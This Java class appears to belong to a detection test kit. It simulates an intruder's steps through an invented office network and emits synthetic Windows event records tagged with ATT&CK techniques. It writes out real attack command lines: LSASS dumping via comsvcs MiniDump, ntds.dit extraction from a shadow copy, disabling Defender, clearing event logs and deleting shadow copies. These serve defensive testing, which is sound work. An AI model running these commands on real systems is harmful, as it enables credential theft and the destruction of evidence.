package org.tocsin.testkit.sample;

import static org.tocsin.testkit.sample.Office.CMD;
import static org.tocsin.testkit.sample.Office.FS;
import static org.tocsin.testkit.sample.Office.JONAS;
import static org.tocsin.testkit.sample.Office.JONAS_PC;
import static org.tocsin.testkit.sample.Office.LIBRARY;
import static org.tocsin.testkit.sample.Office.MARA_PC;
import static org.tocsin.testkit.sample.Office.PLAYER;
import static org.tocsin.testkit.sample.Office.SCAN;
import static org.tocsin.testkit.sample.Office.TOBI;

import java.time.Instant;
import org.tocsin.testkit.Machine;
import org.tocsin.testkit.Machine.Account;
import org.tocsin.testkit.Program;
import org.tocsin.testkit.Program.Running;
import org.tocsin.testkit.SecurityEvents;
import org.tocsin.testkit.SysmonEvents;
import org.tocsin.testkit.SystemEvents;
import org.tocsin.testkit.sample.Chronicle.Side;

/// Someone who lives inside the network for fifteen months, looking for contacts and plans. The order of things
/// follows what has been published of such cases; names, addresses and files are invented.
final class Intruder {
    static final String CONTROL = "updates.northgate-cdn.test";
    static final String CONTROL_IP = "203.0.113.77";
    static final String FILES = "files.northgate-cdn.test";
    static final String FILES_IP = "203.0.113.78";
    static final String LOGIN = "login.quillfeather-files.test";
    static final String LOGIN_IP = "203.0.113.91";

    private static final String TASK = "\\Microsoft\\Windows\\MediaSync\\Refresh";
    static final String PERF = "C:\\PerfLogs\\";

    private final Chronicle chronicle;

    Intruder(Chronicle chronicle) {
        this.chronicle = chronicle;
    }

    void live() {
        enter();
        look();
        takePasswords();
        moveToServer();
        takeDirectory();
        moveToDirector();
        switchOffDefence();
        returnToServer();
        coverTracks();
        new Spying(chronicle).watch();
    }

    private Scene scene(Machine machine, Account who, String start) {
        return new Scene(chronicle, Side.INTRUDER, machine, who, start);
    }

    /// The implant as it runs on a machine.
    static Running implant(Scene scene) {
        String integrity = scene.who().equals(Account.SYSTEM) ? "System" : "Medium";
        return Running.started(
                        scene.machine(),
                        Instant.parse("2025-07-08T07:31:44Z"),
                        PLAYER,
                        '"' + PLAYER.image() + "\" -q",
                        scene.who(),
                        8_844)
                .at(integrity);
    }

    static Running serverImplant(Scene scene) {
        return Running.started(
                scene.machine(),
                Instant.parse("2025-08-05T20:19:02Z"),
                Program.bare("C:\\Windows\\debug\\WIA\\svchost.exe"),
                "C:\\Windows\\debug\\WIA\\svchost.exe -k netsvc",
                Account.SYSTEM,
                4_916);
    }

    /// A mail with an archive, a shortcut in it, a signed program that loads the library lying beside it.
    private void enter() {
        Scene s = scene(JONAS_PC, JONAS, "2025-07-08T07:31:04.2718281Z");
        Running outlook = Running.started(
                JONAS_PC,
                Instant.parse("2025-07-08T06:58:00Z"),
                new Program(
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                        "Outlook.exe",
                        "Microsoft Outlook",
                        "Microsoft Office",
                        "Microsoft Corporation",
                        "16.0.17928.20156"),
                "OUTLOOK.EXE",
                JONAS,
                5_640);
        Running explorer = Office.explorer(JONAS_PC, JONAS);
        s.file(
                outlook,
                "C:\\Users\\jonas\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8QX2LM0T\\Panel_invitation.zip",
                "T1566.001",
                "archive saved from a mail");
        Running shell = s.run(
                CMD,
                "\"C:\\Windows\\System32\\cmd.exe\" /c xcopy /h /y \"C:\\Users\\jonas\\AppData\\Local\\Temp\\"
                        + "Temp1_Panel_invitation.zip\\_data\\*\" C:\\ProgramData\\MediaSync\\ & start \"\" "
                        + "C:\\ProgramData\\MediaSync\\MediaSync.exe & start \"\" C:\\ProgramData\\MediaSync\\Invitation.pdf",
                explorer,
                "T1204.002",
                "shortcut inside the archive starts a shell");
        Running copy = s.run(
                Office.XCOPY,
                "xcopy  /h /y \"C:\\Users\\jonas\\AppData\\Local\\Temp\\Temp1_Panel_invitation.zip\\_data\\*\" "
                        + "C:\\ProgramData\\MediaSync\\",
                shell,
                "T1204.002",
                "files of the archive copied to ProgramData");
        s.file(copy, PLAYER.image(), "T1036.005", "signed program under another name");
        s.file(copy, LIBRARY.image(), "T1574.001", "library laid beside the signed program");
        Running implant =
                s.run(PLAYER, PLAYER.image(), shell, "T1036.003", "renamed signed program started from ProgramData");
        s.show(
                SysmonEvents.imageLoaded(JONAS_PC, s.tick(), implant, LIBRARY, ""),
                "T1574.001",
                "signed program loads an unsigned library");
        s.call(implant, CONTROL, CONTROL_IP, "T1071.001", "first call to the control server");
        s.run(
                Office.SCHTASKS,
                "schtasks /create /tn " + TASK
                        + " /tr \"C:\\ProgramData\\MediaSync\\MediaSync.exe -q\" /sc minute /mo 60 /f",
                implant,
                "T1053.005",
                "scheduled task keeps the implant alive");
        s.show(
                SecurityEvents.taskCreated(
                        JONAS_PC, s.tick(), JONAS, TASK, "C:\\ProgramData\\MediaSync\\MediaSync.exe -q"),
                "T1053.005",
                "scheduled task keeps the implant alive");
        s.show(
                SystemEvents.taskRegistered(JONAS_PC, s.tick(), JONAS, TASK),
                "T1053.005",
                "scheduled task keeps the implant alive");
        s.show(
                SysmonEvents.valueSet(
                        JONAS_PC,
                        s.tick(),
                        implant,
                        "HKU\\" + JONAS.sid() + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\MediaSync",
                        "C:\\ProgramData\\MediaSync\\MediaSync.exe -q"),
                "T1547.001",
                "run key keeps the implant alive");
    }

    /// Who am I, who else is there, what computers are there.
    private void look() {
        Scene s = scene(JONAS_PC, JONAS, "2025-07-08T07:52:40.1414213Z");
        Running shell = s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "T1059.003", "shell of the implant");
        s.run(Office.WHOAMI, "whoami  /all", shell, "T1033", "asks who the user is");
        s.run(Office.IPCONFIG, "ipconfig  /all", shell, "T1016", "asks for the network settings");
        s.run(Office.NET, "net  user /domain", shell, "T1087.002", "lists the people of the domain");
        Running net = s.run(
                Office.NET,
                "net  group \"Domain Admins\" /domain",
                shell,
                "T1069.002",
                "asks who the administrators are");
        s.run(
                Office.NET1,
                "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain",
                net,
                "T1069.002",
                "asks who the administrators are");
        s.run(Office.NLTEST, "nltest  /dclist:quillfeather", shell, "T1018", "asks for the domain controllers");

        s = scene(JONAS_PC, JONAS, "2025-07-15T18:04:11.5772156Z");
        s.file(implant(s), PERF + "af.exe", "T1074.001", "tool put into a staging folder");
        shell = s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "T1059.003", "shell of the implant");
        s.run(Office.NET, "net  view /domain", shell, "T1018", "lists the computers");
        s.run(
                Office.ADFIND.as(PERF + "af.exe"),
                PERF + "af.exe -f \"(objectcategory=person)\" -csv name mail telephoneNumber",
                shell,
                "T1087.002",
                "directory tool under another name takes everybody's addresses");

        s = scene(JONAS_PC, JONAS, "2025-07-22T17:40:29.3010299Z");
        s.file(implant(s), PERF + "Adobe.exe", "T1074.001", "tool put into a staging folder");
        shell = s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "T1059.003", "shell of the implant");
        Running scanner = s.run(
                new Program(PERF + "Adobe.exe", "nbtscan.exe", "NetBIOS name scanner", "NBTscan", "-", "1.0.35"),
                PERF + "Adobe.exe -r 10.20.30.0/24",
                shell,
                "T1046",
                "network scanner under the name of another program");
        s.show(
                SysmonEvents.connected(JONAS_PC, s.tick(), scanner, "10.20.30.10", "FS-01." + Office.ZONE, 139),
                "T1046",
                "scanner reaches the file server");
    }

    private void takePasswords() {
        Scene s = scene(JONAS_PC, JONAS, "2025-08-04T19:12:55.6931471Z");
        Running shell =
                s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "High", "T1059.003", "shell of the implant");
        Running dump = s.run(
                Office.RUNDLL,
                "rundll32.exe  C:\\windows\\system32\\comsvcs.dll, MiniDump 724 C:\\PerfLogs\\l.dmp full",
                shell,
                "T1003.001",
                "password memory dumped with a Windows library");
        s.show(
                SysmonEvents.processOpened(
                        JONAS_PC,
                        s.tick(),
                        dump,
                        Office.lsass(JONAS_PC),
                        0x1f_ffff,
                        "C:\\Windows\\SYSTEM32\\ntdll.dll+9f8e4|C:\\Windows\\System32\\KERNELBASE.dll+47d5e|"
                                + "C:\\windows\\system32\\comsvcs.dll+44fc8|C:\\windows\\system32\\comsvcs.dll+4521d|"
                                + "C:\\Windows\\system32\\rundll32.exe+3aed"),
                "T1003.001",
                "password memory opened");
        s.file(dump, PERF + "l.dmp", "T1003.001", "dump of the password memory in a staging folder");
    }

    /// On to the file server with the administrator's password.
    private void moveToServer() {
        Account stolen = TOBI.session(0x9f3_b21);
        Scene s = scene(JONAS_PC, JONAS, "2025-08-05T20:11:30.8284271Z");
        Running shell = s.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(s), "T1059.003", "shell of the implant");
        Running net = s.run(
                Office.NET,
                "net  use \\\\FS-01\\C$ /user:QUILLFEATHER\\tobi *",
                shell,
                "T1021.002",
                "administrator's share of the server connected");
        s.show(
                SecurityEvents.explicitCredentials(JONAS_PC, s.tick(), JONAS, TOBI, "FS-01", net),
                "T1078.002",
                "administrator's password used from a colleague's laptop");

        Scene f = scene(FS, stolen, "2025-08-05T20:11:41.1234567Z");
        String from = JONAS_PC.ip();
        f.show(
                SecurityEvents.ntlm(FS, f.tick(), stolen, "LT-JONAS"),
                "T1078.002",
                "administrator's password checked for a colleague's laptop");
        f.show(
                SecurityEvents.logon(FS, f.tick(), Account.NOBODY, stolen, 3, from, "LT-JONAS"),
                "T1078.002",
                "administrator logs on from a colleague's laptop");
        f.show(
                SecurityEvents.privileges(FS, f.tick(), stolen),
                "T1078.002",
                "administrator logs on from a colleague's laptop");
        f.show(
                SecurityEvents.shareOpened(FS, f.tick(), stolen, from, "C$", "\\??\\C:\\"),
                "T1021.002",
                "administrator's share of the server opened");
        f.show(
                SecurityEvents.shareFile(
                        FS, f.tick(), stolen, from, "C$", "\\??\\C:\\", "Windows\\debug\\WIA\\svchost.exe", true),
                "T1570",
                "program with the name of a Windows program copied to the server");
        f.show(
                SystemEvents.serviceInstalled(
                        FS,
                        f.tick(),
                        stolen,
                        "Windows Media Indexing",
                        "C:\\Windows\\debug\\WIA\\svchost.exe -k netsvc",
                        "auto start"),
                "T1543.003",
                "service runs a program from a folder for log files");
        f.show(
                SecurityEvents.serviceInstalled(
                        FS,
                        f.tick(),
                        stolen,
                        "Windows Media Indexing",
                        "C:\\Windows\\debug\\WIA\\svchost.exe -k netsvc"),
                "T1543.003",
                "service runs a program from a folder for log files");
        f.as(Account.SYSTEM);
        f.run(
                Program.bare("C:\\Windows\\debug\\WIA\\svchost.exe"),
                "C:\\Windows\\debug\\WIA\\svchost.exe -k netsvc",
                Office.services(FS),
                "T1036.005",
                "name of a Windows program in the wrong folder");
    }

    /// The directory's database, by way of a shadow copy.
    private void takeDirectory() {
        Scene s = scene(FS, TOBI.session(0x9f3_c84), "2025-08-05T20:38:02.4142135Z");
        Running wmi = Office.wmi(FS);
        Running shell = remote(s, wmi, "whoami", "T1047", "command run through WMI from another computer");
        s.run(Office.WHOAMI, "whoami", shell, "T1033", "asks who the user is");
        shell = remote(s, wmi, "vssadmin create shadow /for=C:", "T1003.003", "shadow copy made to reach locked files");
        s.run(
                Office.VSSADMIN,
                "vssadmin  create shadow /for=C:",
                shell,
                "T1003.003",
                "shadow copy made to reach locked files");
        remote(
                s,
                wmi,
                "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\PerfLogs\\n.dit",
                "T1003.003",
                "directory database copied out of the shadow copy");
        shell = remote(
                s,
                wmi,
                "reg save hklm\\system C:\\PerfLogs\\s.hiv",
                "T1003.002",
                "registry hive saved that unlocks the directory");
        s.run(
                Office.REG,
                "reg  save hklm\\system C:\\PerfLogs\\s.hiv",
                shell,
                "T1003.002",
                "registry hive saved that unlocks the directory");
        shell = remote(
                s,
                wmi,
                "C:\\PerfLogs\\rar.exe a -hpMadeUp-01 C:\\PerfLogs\\w.rar C:\\PerfLogs\\n.dit C:\\PerfLogs\\s.hiv",
                "T1560.001",
                "directory packed with a password");
        s.run(
                Office.RAR,
                "C:\\PerfLogs\\rar.exe  a -hpMadeUp-01 C:\\PerfLogs\\w.rar C:\\PerfLogs\\n.dit C:\\PerfLogs\\s.hiv",
                shell,
                "T1560.001",
                "directory packed with a password");
        shell = remote(s, wmi, "vssadmin delete shadows /for=C: /quiet", "T1070.004", "shadow copy deleted afterwards");
        s.run(
                Office.VSSADMIN,
                "vssadmin  delete shadows /for=C: /quiet",
                shell,
                "T1070.004",
                "shadow copy deleted afterwards");
        remote(
                s,
                wmi,
                "del /f C:\\PerfLogs\\n.dit C:\\PerfLogs\\s.hiv",
                "T1070.004",
                "traces deleted in the staging folder");
        s.show(
                SecurityEvents.shareFile(
                        FS, s.tick(), s.who(), JONAS_PC.ip(), "C$", "\\??\\C:\\", "PerfLogs\\w.rar", false),
                "T1039",
                "packed directory fetched over the network");
    }

    /// A command as a known remote tool words it: through WMI, the answer in a file of the administrator's share.
    private static Running remote(Scene s, Running wmi, String command, String technique, String behaviour) {
        return s.run(
                CMD,
                "cmd.exe /Q /c " + command + " 1> \\\\127.0.0.1\\ADMIN$\\__1754426301.81 2>&1",
                wmi,
                "High",
                technique,
                behaviour);
    }

    private void moveToDirector() {
        Scene j = scene(JONAS_PC, JONAS, "2025-08-12T19:02:17.7320508Z");
        Running shell = j.run(CMD, "C:\\Windows\\system32\\cmd.exe", implant(j), "T1059.003", "shell of the implant");
        j.run(
                Office.SCHTASKS,
                "schtasks  /create /s LT-MARA /u QUILLFEATHER\\tobi /ru SYSTEM /tn " + TASK
                        + " /tr C:\\ProgramData\\MediaSync\\MediaSync.exe /sc minute /mo 90 /f",
                shell,
                "T1053.005",
                "scheduled task made on the director's laptop");

        Account stolen = TOBI.session(0x3a7_d10);
        Scene m = scene(MARA_PC, stolen, "2025-08-12T19:01:50.2360679Z");
        m.show(
                SecurityEvents.logon(MARA_PC, m.tick(), Account.NOBODY, stolen, 3, JONAS_PC.ip(), "LT-JONAS"),
                "T1078.002",
                "administrator logs on from a colleague's laptop");
        m.show(
                SecurityEvents.privileges(MARA_PC, m.tick(), stolen),
                "T1078.002",
                "administrator logs on from a colleague's laptop");
        m.pause("PT25S");
        m.show(
                SecurityEvents.taskCreated(
                        MARA_PC, m.tick(), stolen, TASK, "C:\\ProgramData\\MediaSync\\MediaSync.exe"),
                "T1053.005",
                "scheduled task made from another computer");
        m.show(
                SystemEvents.taskRegistered(MARA_PC, m.tick(), stolen, TASK),
                "T1053.005",
                "scheduled task made from another computer");
        m.as(Account.SYSTEM);
        Running implant = m.run(
                PLAYER,
                PLAYER.image(),
                Office.scheduler(MARA_PC),
                "T1036.003",
                "renamed signed program started by a task");
        m.show(
                SysmonEvents.imageLoaded(MARA_PC, m.tick(), implant, LIBRARY, ""),
                "T1574.001",
                "signed program loads an unsigned library");
        m.call(implant, CONTROL, CONTROL_IP, "T1071.001", "call to the control server");
        String query = "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA "
                + "'Win32_PerfFormattedData_PerfOS_System'";
        String command = "C:\\ProgramData\\MediaSync\\MediaSync.exe -q";
        m.show(
                SysmonEvents.wmiFilter(MARA_PC, m.tick(), m.who(), "MediaSyncFilter", query),
                "T1546.003",
                "WMI subscription keeps the implant alive");
        m.show(
                SysmonEvents.wmiConsumer(MARA_PC, m.tick(), m.who(), "MediaSyncConsumer", command),
                "T1546.003",
                "WMI subscription keeps the implant alive");
        m.show(
                SysmonEvents.wmiBinding(MARA_PC, m.tick(), m.who(), "MediaSyncConsumer", "MediaSyncFilter"),
                "T1546.003",
                "WMI subscription keeps the implant alive");
        m.show(
                SystemEvents.wmiBinding(
                        MARA_PC, m.tick(), m.who(), "MediaSyncFilter", query, "MediaSyncConsumer", command),
                "T1546.003",
                "WMI subscription keeps the implant alive");
    }

    private void switchOffDefence() {
        Scene s = scene(MARA_PC, Account.SYSTEM, "2026-02-24T10:02:33.9149150Z");
        s.show(
                SystemEvents.defender(
                        MARA_PC,
                        s.tick(),
                        1116,
                        "Trojan:Win64/SampleSideload.A!dha",
                        LIBRARY.image(),
                        Account.SYSTEM,
                        "Not Applicable"),
                "T1574.001",
                "antivirus recognises the library");
        s.pause("PT10H30M");
        String command = "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath "
                + "C:\\ProgramData\\MediaSync";
        Running shell = s.run(
                Office.POWERSHELL,
                "powershell.exe -nop -w hidden -c \"" + command + '"',
                implant(s),
                "T1562.001",
                "antivirus switched off and told to look away");
        s.show(
                SystemEvents.scriptBlock(MARA_PC, s.tick(), s.who(), shell.pid(), command, ""),
                "T1562.001",
                "antivirus switched off and told to look away");
        s.show(SystemEvents.protectionOff(MARA_PC, s.tick()), "T1562.001", "antivirus switched off");
        s.show(
                SystemEvents.settingChanged(
                        MARA_PC,
                        s.tick(),
                        "",
                        "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\MediaSync = 0x0"),
                "T1562.001",
                "antivirus told to look away");
    }

    /// An account of one's own and a remote-help program in an odd place. The server's Security log of these months
    /// is gone; what is left stands in smaller logs.
    private void returnToServer() {
        Scene s = scene(FS, TOBI.session(0x1f4_e77), "2026-05-26T20:41:12.5320888Z");
        s.show(SecurityEvents.accountCreated(FS, s.tick(), s.who(), SCAN), "T1136.002", "account made by the intruder");
        s.show(
                SecurityEvents.addedToGroup(FS, s.tick(), s.who(), SCAN, "Domain Admins", Office.DOMAIN_SID + "-512"),
                "T1098",
                "account made an administrator");
        s.show(
                SystemEvents.serviceInstalled(
                        FS,
                        s.tick(),
                        s.who(),
                        "TeamViewer",
                        "\"C:\\Users\\Public\\Videos\\tv\\TeamViewer_Service.exe\"",
                        "auto start"),
                "T1219",
                "remote-help program run from a public folder");
        Scene j = scene(JONAS_PC, Account.SYSTEM, "2026-05-26T20:54:51.4811111Z");
        desktop(j);
        s.show(
                SystemEvents.session(FS, s.pause("PT14M").tick(), 21, SCAN, 3, JONAS_PC.ip()),
                "T1021.001",
                "new account on the server's desktop from a colleague's laptop");
        s.show(
                SystemEvents.session(FS, s.pause("PT41M").tick(), 24, SCAN, 3, JONAS_PC.ip()),
                "T1021.001",
                "new account on the server's desktop from a colleague's laptop");
    }

    /// On the server: the Security log starts again with the record of its own clearing.
    private void coverTracks() {
        Account session = SCAN.session(0x2c9_f05);
        desktop(scene(JONAS_PC, Account.SYSTEM, "2026-09-28T22:36:02.4040404Z"));
        Scene s = scene(FS, session, "2026-09-28T22:36:05.9090909Z");
        s.show(
                SystemEvents.session(FS, s.tick(), 21, SCAN, 4, JONAS_PC.ip()),
                "T1021.001",
                "new account on the server's desktop from a colleague's laptop");
        s = scene(FS, session, "2026-09-28T22:40:58.1111111Z");
        s.show(SecurityEvents.logCleared(FS, s.tick(), session), "T1070.001", "Security log cleared");
        s.show(
                SystemEvents.logCleared(FS, s.tick(), session, SystemEvents.OLD_POWERSHELL),
                "T1070.001",
                "PowerShell log cleared");
        Running shell = s.run(
                CMD,
                "C:\\Windows\\system32\\cmd.exe",
                Office.explorer(FS, session),
                "High",
                "T1059.003",
                "shell of the intruder's account");
        s.run(Office.WEVTUTIL, "wevtutil  cl \"Windows PowerShell\"", shell, "T1070.001", "PowerShell log cleared");
        s.run(Office.TASKKILL, "taskkill  /f /im rar.exe", shell, "T1489", "own tool stopped");
        s.run(Office.VSSADMIN, "vssadmin  delete shadows /all /quiet", shell, "T1490", "all shadow copies deleted");
        s.run(
                CMD,
                "cmd  /c del /f /q C:\\PerfLogs\\*.* C:\\Recovery\\*.rar",
                shell,
                "T1070.004",
                "traces deleted in the staging folders");
    }

    /// The implant on the first laptop opens the server's desktop.
    private static void desktop(Scene s) {
        s.show(
                SysmonEvents.connected(s.machine(), s.tick(), implant(s), FS.ip(), "FS-01." + Office.ZONE, 3389),
                "T1021.001",
                "implant connects to the server's desktop");
    }
}
